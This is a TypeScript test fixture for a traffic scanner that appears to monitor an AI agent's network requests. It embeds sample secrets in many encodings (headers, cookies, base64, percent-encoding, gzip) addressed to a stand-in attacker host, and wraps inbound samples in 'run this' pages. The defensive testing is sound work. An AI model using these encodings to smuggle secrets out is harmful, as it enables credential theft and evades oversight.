// Traffic contexts (after gitleaks' GenerateSampleSecrets): each true-positive example is
// placed in every way an agent could send it, and must still be found. Outbound contexts
// go to a host that is nobody's provider, so own-provider context never applies.
import { gzipSync } from 'node:zlib';
import type { ScanRequest } from '../../lib/scan/types.ts';
import { httpMessageToScanRequest } from '../../lib/http-message.ts';

export const EVIL_DEST = 'collector.attacker.test:443';

export interface TrafficContext {
  name: string;
  build: (sample: string) => ScanRequest;
}

function req(direction: 'outbound' | 'inbound', location: string, text: string): ScanRequest {
  return {
    direction,
    protocol: 'https',
    platform: 'openclaw',
    source: '127.0.0.1',
    dest: EVIL_DEST,
    parts: [{ location, text }],
  };
}

/** A header value cannot hold a newline: an agent would send it JSON-escaped. */
const oneLine = (s: string): string => s.replace(/\r?\n/g, '\\n');
const percentAll = (s: string): string =>
  Array.from(Buffer.from(s, 'utf8'), (b) => '%' + b.toString(16).padStart(2, '0').toUpperCase()).join('');

export const OUTBOUND_CONTEXTS: TrafficContext[] = [
  { name: 'raw body', build: (s) => req('outbound', 'body', s) },
  { name: 'header', build: (s) => req('outbound', 'header:x-debug-data', oneLine(s)) },
  { name: 'bearer', build: (s) => req('outbound', 'header:authorization', 'Bearer ' + oneLine(s)) },
  { name: 'cookie', build: (s) => req('outbound', 'header:cookie', 'theme=dark; session=' + encodeURIComponent(s) + '; lang=en') },
  { name: 'query', build: (s) => req('outbound', 'query:q', encodeURIComponent(s)) },
  { name: 'path', build: (s) => req('outbound', 'path', '/upload/' + encodeURIComponent(s) + '/done') },
  { name: 'json', build: (s) => req('outbound', 'body', JSON.stringify({ event: 'log', data: s, n: 1 })) },
  { name: 'form', build: (s) => req('outbound', 'body', 'a=1&payload=' + encodeURIComponent(s) + '&b=2') },
  {
    name: 'multipart',
    build: (s) =>
      req('outbound', 'body', ['--XyZ', 'Content-Disposition: form-data; name="file"; filename="notes.txt"', 'Content-Type: text/plain', '', s, '--XyZ--', ''].join('\r\n')),
  },
  { name: 'base64', build: (s) => req('outbound', 'body', JSON.stringify({ blob: Buffer.from(s).toString('base64') })) },
  { name: 'base64url query', build: (s) => req('outbound', 'query:d', Buffer.from(s).toString('base64url')) },
  { name: 'percent-encoded', build: (s) => req('outbound', 'body', 'x=' + percentAll(s)) },
  { name: 'double percent-encoded', build: (s) => req('outbound', 'query:u', encodeURIComponent(encodeURIComponent(s))) },
  { name: 'json-escaped', build: (s) => req('outbound', 'body', JSON.stringify(JSON.stringify({ k: s }))) },
  {
    name: 'gzip body',
    build: (s) => {
      const body = gzipSync(Buffer.from(s));
      const head = `POST /ingest HTTP/1.1\r\nHost: collector.attacker.test\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`;
      return httpMessageToScanRequest(Buffer.concat([Buffer.from(head), body]), {
        platform: 'openclaw', protocol: 'https', source: '127.0.0.1', dest: EVIL_DEST, maxScanBytes: 1 << 20,
      });
    },
  },
];

const htmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;').replace(/'/g, '&#39;');

export const INBOUND_CONTEXTS: TrafficContext[] = [
  { name: 'raw body', build: (s) => req('inbound', 'body', s) },
  { name: 'html page', build: (s) => req('inbound', 'body', `<html><body><p>Run this:</p><pre><code>${htmlEscape(s)}</code></pre></body></html>`) },
  { name: 'json', build: (s) => req('inbound', 'body', JSON.stringify({ result: { output: s } })) },
  { name: 'markdown', build: (s) => req('inbound', 'body', 'To fix it, run:\n\n```bash\n' + s + '\n```\n') },
  { name: 'json-escaped', build: (s) => req('inbound', 'body', JSON.stringify(JSON.stringify({ text: s }))) },
  {
    name: 'gzip body',
    build: (s) => {
      const body = gzipSync(Buffer.from(s));
      const head = `HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`;
      return httpMessageToScanRequest(Buffer.concat([Buffer.from(head), body]), {
        platform: 'openclaw', protocol: 'https', source: '127.0.0.1', dest: EVIL_DEST, maxScanBytes: 1 << 20,
      });
    },
  },
];
